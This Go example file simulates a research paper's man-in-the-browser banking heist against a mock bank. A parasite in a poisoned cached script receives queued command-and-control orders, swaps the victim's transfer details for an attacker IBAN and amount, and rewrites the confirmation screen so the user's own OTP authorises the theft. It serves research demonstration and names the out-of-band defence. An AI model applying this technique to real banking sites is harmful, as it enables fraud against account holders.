// Banking heist: the Table V "circumvent two-factor authentication"
// attack end to end.
//
// The victim's bank uses OTP-confirmed transfers. The parasite (delivered
// earlier over an insecure WiFi) manipulates the submitted transfer to
// the attacker's account while showing the user their own, and rewrites
// the confirmation screen — so the user's own OTP authorises the
// attacker's transaction. No out-of-band confirmation exists, which is
// exactly the requirement the paper states for this attack.
//
//	go run ./examples/banking-heist
package main

import (
	"fmt"
	"log"

	"masterparasite/internal/apps"
	"masterparasite/internal/attacker"
	"masterparasite/internal/attacks"
	"masterparasite/internal/browser"
	"masterparasite/internal/core"
	"masterparasite/internal/dom"
	"masterparasite/internal/parasite"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	s, err := core.NewScenario(core.Config{Profile: "Chrome"})
	if err != nil {
		return err
	}
	bank := apps.NewBank("bank.example")
	s.AddHandler(bank.Host, bank.Handler())

	strain := parasite.NewConfig("heist", "bot-h", core.MasterHost)
	strain.Propagate = false
	attacks.Install(strain)
	s.Registry.Add(strain)
	s.Master.AddTarget(attacker.Target{
		Name: "bank.example/js/bank.js", Kind: attacker.KindJS,
		ParasitePayload: "heist", Original: []byte("function bankApp(){}"),
	})

	wired := browser.VisitOpts{OnDocument: func(p *browser.Page) { bank.Wire(p, nil) }}
	submit := func(p *browser.Page, form string, values map[string]string) error {
		el := p.Doc.FindByID(form)
		if el == nil {
			return fmt.Errorf("no form %s", form)
		}
		for k, v := range values {
			dom.SetFormValue(el, k, v)
		}
		_, _, err := p.Doc.Submit(form)
		return err
	}

	// The user logs in at the bank (the infection happens on this visit:
	// the master is on-path and poisons /js/bank.js).
	page, err := s.VisitWith(s.Victim, bank.Host, "/", wired)
	if err != nil {
		return err
	}
	if err := submit(page, "login", map[string]string{"user": "alice", "pass": "hunter2"}); err != nil {
		return err
	}
	s.Run()
	fmt.Println("[1] alice logged in; bank.js infected in her cache")

	// Later — at home, attacker off-path — the master orders the heist.
	s.LeaveAttackerNetwork()
	s.CNC.QueueCommand("bot-h", []byte("transaction-manipulation|iban=XX99 ATTACKER,amount=9500"))

	// Alice transfers 50 EUR to grandma.
	page, err = s.VisitWith(s.Victim, bank.Host, "/", wired)
	if err != nil {
		return err
	}
	if err := submit(page, "transfer", map[string]string{"iban": "DE22 GRANDMA", "amount": "50"}); err != nil {
		return err
	}
	s.Run()
	fmt.Println("[2] alice submitted: 50 EUR to DE22 GRANDMA")
	fmt.Println("    bank received:  9500 EUR to XX99 ATTACKER (values swapped on submit)")

	// The confirmation screen: the parasite rewrites the displayed
	// details so alice sees her intended transfer.
	s.CNC.QueueCommand("bot-h", []byte("bypass-2fa|Transfer 50 EUR to DE22 GRANDMA"))
	confirm, err := s.VisitWith(s.Victim, bank.Host, "/confirm", wired)
	if err != nil {
		return err
	}
	details := confirm.Doc.FindByID("pending-details")
	fmt.Printf("[3] alice's screen shows: %q\n", details.TextContent())

	// Reassured, she enters her OTP.
	if err := submit(confirm, "otp", map[string]string{"code": "123456"}); err != nil {
		return err
	}
	s.Run()

	if len(bank.Transfers) == 0 {
		return fmt.Errorf("no transfer committed")
	}
	tx := bank.Transfers[0]
	fmt.Printf("[4] bank executed: %d EUR to %s (authorized=%v)\n", tx.Amount, tx.ToIBAN, tx.Authorized)
	fmt.Printf("    alice's balance: %d EUR\n", bank.Accounts["alice"].Balance)
	fmt.Println("\ndefence (§VII): out-of-band transaction detail confirmation on a second device")
	return nil
}
